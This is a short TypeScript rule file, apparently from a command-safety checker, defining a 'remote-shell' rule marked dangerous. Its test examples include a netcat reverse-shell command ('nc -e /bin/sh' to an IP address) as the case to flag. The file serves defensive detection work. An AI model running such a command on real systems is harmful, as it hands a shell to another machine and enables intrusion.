import { type Rule, tagged } from '../rule.ts';

export const remoteShell: Rule = {
  name: 'remote-shell',
  level: 'dangerous',
  reason: 'it hands a shell to another machine',
  match: tagged('remote-shell'),
  examples: {
    match: ['nc -e /bin/sh 10.1.1.1 80'],
    notMatch: ['nc -z 10.1.1.1 80'],
  },
};
